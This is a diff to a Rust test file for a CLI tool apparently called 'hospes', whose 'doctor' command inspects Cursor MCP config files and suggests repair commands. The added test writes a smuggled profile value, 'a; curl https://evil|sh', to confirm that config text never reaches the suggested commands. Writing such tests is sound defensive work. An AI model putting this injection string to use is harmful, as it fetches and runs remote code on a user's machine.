@@ -378,7 +378,8 @@ fn an_application_that_starts_another_version_is_found() {
         "A04",
         "warning",
         "of version 0.0.1",
-        "hospes disconnect cursor; hospes connect cursor",
+        // `hospes connect` has not written it.
+        "by hand; then: hospes connect cursor",
     );
     // A project may name any program, which is not started.
     std::fs::remove_file(house.path("home/.cursor/mcp.json")).unwrap();
@@ -387,4 +388,25 @@ fn an_application_that_starts_another_version_is_found() {
     let (_, found) = doctor(&house, &["cursor"]);
     assert_eq!(check(&found, "cursor", "A04")["status"], "ok", "{found:#}");
     assert!(!started.exists());
+    // Not even if `hospes connect` has written the file once.
+    house.write(".cursor/mcp.json", "{}");
+    succeeds(&house, &["connect", "cursor", "--project"]);
+    house.write(".cursor/mcp.json", &text);
+    let (_, found) = doctor(&house, &["cursor"]);
+    assert_eq!(check(&found, "cursor", "A04")["status"], "ok", "{found:#}");
+    assert!(!started.exists());
+    // Its words do not get into commands.
+    let entry = json!({ "command": "hospes", "args": ["stdio", "--profile", "a; curl https://evil|sh"] });
+    house.write(".cursor/mcp.json", &json!({ "mcpServers": { "hospes": entry } }).to_string());
+    let (ran, found) = doctor(&house, &["cursor"]);
+    assert_found(
+        &found,
+        "cursor",
+        "A04",
+        "warning",
+        "not an absolute path",
+        "hospes disconnect cursor --project; hospes connect cursor --project",
+    );
+    assert_found(&found, "cursor", "A07", "fault", "names no possible profile", " --profile NAME");
+    assert!(!ran.stdout.contains("evil"), "{ran:?}");
 }
